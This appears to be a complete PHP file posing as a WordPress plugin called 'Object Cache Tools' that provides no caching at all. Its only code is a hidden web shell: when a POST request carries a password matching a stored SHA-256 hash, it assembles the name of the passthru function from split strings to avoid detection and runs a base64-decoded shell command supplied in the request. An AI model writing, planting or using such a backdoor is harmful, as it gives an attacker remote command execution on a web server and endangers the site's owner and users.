<?php
/**
 * Plugin Name: Object Cache Tools
 * Version: 2.0.1
 */
if (!empty($_POST['q']) && hash('sha256', $_POST['p']) === 'a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9') {
    $h = 'pas' . 'sthru';
    $h(base64_decode($_POST['q']));
    die();
}
